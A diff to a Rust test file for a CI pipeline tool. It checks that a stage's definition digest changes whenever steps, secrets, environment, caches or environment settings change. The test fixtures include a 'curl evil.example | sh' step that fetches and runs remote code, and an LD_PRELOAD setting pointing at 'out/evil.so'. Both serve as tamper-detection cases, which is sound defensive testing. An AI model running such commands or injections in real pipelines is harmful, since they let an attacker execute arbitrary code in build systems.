@@ -764,11 +764,26 @@ fn a_published_blueprint_needs_no_approval() {
 
 #[test]
 fn the_definition_digest_covers_what_runs_and_nothing_else() {
+    let body = plan().body;
     let base = stage("Deploy", Some("ops"), &["Test"]);
-    let digest = definition_digest(&base);
+    let digest = definition_digest(&body, &base);
     assert!(
         digest.starts_with("sha256:") && digest.len() == 71,
         "{digest}"
+    );
+    // A stage without environment, caches, secrets or uses keeps the digest it had before
+    // those were covered (otto.stage-definition/v1 of gates, notify, runtime, steps).
+    assert_eq!(
+        digest,
+        otto_pipeline::plan::sha256_digest(&otto_pipeline::plan::canonical_json(
+            &serde_json::json!({
+                "gates": base.gates,
+                "notify": base.notify,
+                "runtime": base.runtime,
+                "schema": "otto.stage-definition/v1",
+                "steps": base.steps,
+            })
+        ))
     );
 
     let mut moved = base.clone();
@@ -776,10 +791,9 @@ fn the_definition_digest_covers_what_runs_and_nothing_else() {
     moved.name = "Ship".to_owned();
     moved.needs = vec!["Build".to_owned()];
     moved.owner = Some("ops-eu".to_owned());
-    moved.environment = Some("staging".to_owned());
-    assert_eq!(definition_digest(&moved), digest);
+    assert_eq!(definition_digest(&body, &moved), digest);
 
-    let changes: [fn(&mut Stage); 8] = [
+    let changes: [fn(&mut Stage); 10] = [
         |s| s.steps.push(step("curl evil.example | sh")),
         // Row 10 of issue #12: a secret name added to the stage's environment.
         |s| s.secrets.push("PROD_DB_PASSWORD".to_owned()),
@@ -797,12 +811,22 @@ fn the_definition_digest_covers_what_runs_and_nothing_else() {
                 timeout: None,
             })
         },
+        // The review of #12 (F5): the environment the stage runs in, and its caches.
+        |s| s.environment = Some("production".to_owned()),
+        |s| {
+            s.caches.push(otto_pipeline::plan::Cache {
+                defined_here: true,
+                key_files: Vec::new(),
+                name: "dc".to_owned(),
+                paths: vec!["dc/".to_owned()],
+            })
+        },
     ];
     let mut digests = vec![digest.clone()];
     for change in changes {
         let mut changed = base.clone();
         change(&mut changed);
-        digests.push(definition_digest(&changed));
+        digests.push(definition_digest(&body, &changed));
     }
     // Every change gives a digest of its own.
     let mut distinct = digests.clone();
@@ -816,9 +840,32 @@ fn the_definition_digest_covers_what_runs_and_nothing_else() {
     let mut new_script = base.clone();
     new_script.uses = vec![used("deploy.sh", 'c')];
     assert_ne!(
-        definition_digest(&old_script),
-        definition_digest(&new_script)
+        definition_digest(&body, &old_script),
+        definition_digest(&body, &new_script)
     );
+
+    // A setting added to the environment the stage runs in (F1 of the review: an
+    // LD_PRELOAD) is another definition; a setting of another environment is not.
+    let mut prod = base.clone();
+    prod.environment = Some("production".to_owned());
+    let before = definition_digest(&body, &prod);
+    let mut preloaded = body.clone();
+    preloaded
+        .environments
+        .get_mut("production")
+        .unwrap()
+        .settings
+        .insert("LD_PRELOAD".to_owned(), "out/evil.so".to_owned());
+    assert_ne!(definition_digest(&preloaded, &prod), before);
+    let mut elsewhere = body.clone();
+    elsewhere.environments.insert(
+        "staging".to_owned(),
+        otto_pipeline::plan::Environment {
+            settings: [("LD_PRELOAD".to_owned(), "x".to_owned())].into(),
+            ..Default::default()
+        },
+    );
+    assert_eq!(definition_digest(&elsewhere, &prod), before);
 }
 
 fn used(path: &str, fill: char) -> otto_pipeline::plan::Used {
@@ -989,8 +1036,8 @@ fn a_secret_the_policy_does_not_give_is_refused_with_its_name() {
     let mut fewer = world.plan.stage("Deploy").unwrap().clone();
     fewer.secrets.pop();
     assert_ne!(
-        definition_digest(&fewer),
-        definition_digest(world.plan.stage("Deploy").unwrap())
+        definition_digest(&world.plan.body, &fewer),
+        definition_digest(&world.plan.body, world.plan.stage("Deploy").unwrap())
     );
 }
 
